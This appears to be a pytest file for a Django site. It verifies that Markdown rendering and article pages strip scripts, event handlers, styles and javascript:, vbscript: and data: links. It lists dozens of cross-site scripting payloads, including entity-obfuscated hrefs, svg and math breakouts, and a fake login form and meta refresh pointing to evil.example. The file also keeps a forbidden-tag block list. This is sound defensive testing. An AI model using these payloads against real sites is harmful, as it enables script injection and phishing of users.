"""Editors' Markdown can never put script, frames, forms or styles on a page.

Every payload goes through ``routines.text.render_markdown`` and through the
article page itself, and the result is read back with BeautifulSoup: only the
sanitizer's tags and attributes survive, no event handler, no inline style, no
``javascript:``, ``vbscript:`` or ``data:`` address, and every link carries
``rel="noopener noreferrer"``.
"""

import json
import re

import pytest
from bs4 import BeautifulSoup

from routines.text import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
from tests import factories

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "object", "embed", "style", "link", "meta", "base",
    "form", "input", "button", "textarea", "select", "svg", "math", "img", "video",
    "audio", "source", "template", "noscript", "div",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
C0_AND_SPACE = "".join(map(chr, range(0x21)))

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-in-paragraph": "Hello <script src=//evil.example/x.js></script> there",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "a-javascript": '<a href="javascript:alert(1)">click</a>',
    "a-mixed-case": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "a-entity": '<a href="&#106;avascript:alert(1)">click</a>',
    "a-hex-entities": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;'
        '&#x3A;alert(1)">click</a>'
    ),
    "a-colon-entity": '<a href="javascript&colon;alert(1)">click</a>',
    "a-tab-entity": '<a href="java&#9;script:alert(1)">click</a>',
    "a-newline-entity": '<a href="java&#x0A;script:alert(1)">click</a>',
    "a-leading-space": '<a href=" javascript:alert(1)">click</a>',
    "a-leading-control": '<a href="\x01javascript:alert(1)">click</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">click</a>',
    "a-onmouseover": '<a href="https://example.org" onmouseover="x()">hover</a>',
    "a-target-blank": (
        '<a href="https://example.org" target="_blank" rel="opener">new tab</a>'
    ),
    "svg-onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg-link": '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "style-element": "<style>body { display: none }</style>",
    "form": (
        '<form action="https://evil.example"><input name="password">'
        "<button>Log in</button></form>"
    ),
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "div-style": '<div style="position:fixed;top:0;left:0">Covered</div>',
    "p-style": '<p style="background:url(javascript:alert(1))">x</p>',
    "markdown-link-javascript": "[click](javascript:alert(1))",
    "markdown-link-angle": "[click](<javascript:alert(1)>)",
    "markdown-link-entity": "[click](java&#9;script:alert(1))",
    "markdown-reference-link": "[click][1]\n\n[1]: javascript:alert(1)",
    "markdown-image": "![x](javascript:alert(1))",
    "markdown-image-quote": '![x](x" onerror="alert(1))',
    "markdown-data-link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "a-data": '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "a-data-upper": '<a href="DATA:text/html,x">click</a>',
    "attr-list": 'Paragraph\n{: onclick="alert(1)" style="color:red" }',
    "md-in-html": '<div markdown="1" onclick="alert(1)">**bold**</div>',
    "abbr-breakout": '<abbr title="&quot; onmouseover=alert(1)">WHO</abbr>',
    "noscript-breakout": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    ),
    "template": "<template><script>alert(1)</script></template>",
    "comment-breakout": "<!-- --><script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "unclosed": '<a href="https://example.org" onclick="alert(1)',
    "table-attrs": (
        '<table onmouseover="alert(1)"><tr><td style="x">1</td></tr></table>'
    ),
}


def browser_href(href: str) -> str:
    """The address as a browser reads it: ASCII tabs and newlines inside are
    dropped, control characters and spaces around it are trimmed."""
    href = re.sub(r"[\t\n\r]", "", href).strip(C0_AND_SPACE).lower()
    return href


def assert_safe(fragment: BeautifulSoup) -> None:
    for element in fragment.find_all(True):
        assert element.name not in FORBIDDEN_TAGS, element
        assert element.name in ALLOWED_TAGS, element
        allowed = ALLOWED_ATTRIBUTES.get(element.name, set())
        if element.name == "a":
            allowed = allowed | {"rel"}
        for attribute in element.attrs:
            assert not attribute.lower().startswith("on"), element
            assert attribute.lower() != "style", element
            assert attribute in allowed, element
        if element.name == "a":
            assert element.get("rel") == ["noopener", "noreferrer"], element
            href = browser_href(element.get("href", ""))
            assert not href.startswith(BAD_SCHEMES), element


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_rendered_markdown_keeps_only_safe_markup(payload):
    html = render_markdown(payload)

    assert_safe(BeautifulSoup(html, "html.parser"))
    assert "<script" not in html.lower()


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_article_page_shows_editors_payload_only_as_safe_markup(client, payload):
    article = factories.ArticleFactory(body=f"## Safe heading\n\n{payload}\n\nEnd.")

    response = client.get(article.get_absolute_url())

    assert response.status_code == 200
    page = BeautifulSoup(response.content, "html.parser")
    body = page.select_one(".article__body")
    assert body.h2.get_text() == "Safe heading"
    assert_safe(body)
    assert_page_runs_only_the_sites_scripts(page)


def assert_page_runs_only_the_sites_scripts(page: BeautifulSoup) -> None:
    """The only scripts are the site's own files and JSON-LD data that parses."""
    for script in page.find_all("script"):
        if script.get("type") == "application/ld+json":
            assert json.loads(script.string)
        else:
            assert script.get("src", "").startswith("/static/"), script
    for element in page.find_all(True):
        assert not any(name.lower().startswith("on") for name in element.attrs)


@pytest.mark.django_db
def test_title_and_summary_cannot_break_out_of_the_page_or_its_json_ld(client):
    payload = '</script><script>alert(1)</script><img src=x onerror="alert(1)">'
    article = factories.ArticleFactory(title=f"Title {payload}", summary=payload)

    response = client.get(article.get_absolute_url())

    page = BeautifulSoup(response.content, "html.parser")
    assert page.h1.get_text() == f"Title {payload}"
    assert not page.find("img", src="x")
    assert_page_runs_only_the_sites_scripts(page)


@pytest.mark.parametrize(
    "markdown_text",
    [
        "[the handout](https://example.org/handout.pdf)",
        '<a href="https://example.org/handout.pdf">the handout</a>',
        '<a href="https://example.org/handout.pdf" rel="opener">the handout</a>',
        "<https://example.org/handout.pdf>",
    ],
)
def test_links_keep_their_address_and_get_noopener_noreferrer(markdown_text):
    link = BeautifulSoup(render_markdown(markdown_text), "html.parser").a

    assert link["href"] == "https://example.org/handout.pdf"
    assert link["rel"] == ["noopener", "noreferrer"]


@pytest.mark.parametrize(
    "href", ["mailto:editor@example.org", "tel:+15035550100", "/points/", "#steps"]
)
def test_safe_addresses_survive(href):
    link = BeautifulSoup(render_markdown(f"[x]({href})"), "html.parser").a

    assert link["href"] == href
